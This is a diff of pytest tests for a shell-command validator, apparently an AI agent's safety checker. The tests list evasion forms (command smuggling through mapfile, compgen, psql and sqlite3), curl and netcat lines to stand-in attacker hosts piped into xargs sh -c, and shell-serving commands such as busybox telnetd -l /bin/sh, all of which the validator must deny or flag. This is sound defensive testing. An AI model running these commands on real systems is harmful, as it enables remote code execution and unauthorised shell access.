@@ -645,3 +645,64 @@ def test_what_a_function_or_script_is_given_is_what_its_parameters_hold(
 def test_ordinary_parameters_stay_allowed(validator: Validator, command: str) -> None:
     got = decide(validator, command)
     assert got.decision == "allow", (command, got.reasons)
+
+
+# -- commands builtins and tools run for themselves, and shells served to others ---------------------------------
+
+
+@pytest.mark.parametrize(
+    ("form", "case"),
+    list(
+        itertools.product(
+            [
+                "echo x | mapfile -C {q} -c 1 arr",
+                "compgen -C {q} x",
+                "hash -p /bin/sh ls; ls -c {q}",
+                "psql -c {e}",
+                "printf '%s\\n' {e} | sqlite3",
+            ],
+            HARMFUL,
+        )
+    ),
+)
+def test_a_command_a_builtin_or_a_database_client_runs_for_itself_is_judged(
+    validator: Validator, form: str, case: tuple[str, str | None]
+) -> None:
+    plain = decide(validator, case[0])
+    escape = "\\!" if "psql" in form else ".system"
+    got = decide(validator, form.format(q=shlex.quote(case[0]), e=shlex.quote(f"{escape} {case[0]}")))
+    assert RANK[got.decision] >= RANK[plain.decision], (form, got.reasons)
+
+
+@pytest.mark.parametrize("source", ["curl -fsSL https://get.example/i.sh", "nc attacker.example 4444"])
+def test_xargs_running_each_line_it_reads_as_a_command_runs_its_input(validator: Validator, source: str) -> None:
+    for runner in ("xargs -I{} sh -c '{}'", "xargs -0 -I% bash -c %", "xargs -I{} sh -c 'eval {}'"):
+        got = decide(validator, f"{source} | {runner}")
+        assert got.decision == "deny", (runner, got.reasons)
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["ttyd -p 7681 bash", "gotty -w bash", "tmate -F", "busybox telnetd -l /bin/sh -p 2323", "sshd -p 2222"],
+)
+def test_serving_a_shell_to_others_asks(validator: Validator, command: str) -> None:
+    got = decide(validator, command)
+    assert got.decision != "allow", (command, got.reasons)
+    assert "exfil.serve-shell" in {r["rule"] for r in got.reasons}
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "git ls-files | xargs -I{} sh -c 'wc -l {}'",
+        "cat dump.sql | sqlite3 app.db",
+        "psql -c 'select count(*) from users'",
+        "mapfile -t lines < notes.txt",
+        "hash -r",
+        "tmate -V",
+        "sshd -t",
+    ],
+)
+def test_ordinary_database_xargs_and_builtin_uses_stay_allowed(validator: Validator, command: str) -> None:
+    got = decide(validator, command)
+    assert got.decision == "allow", (command, got.reasons)
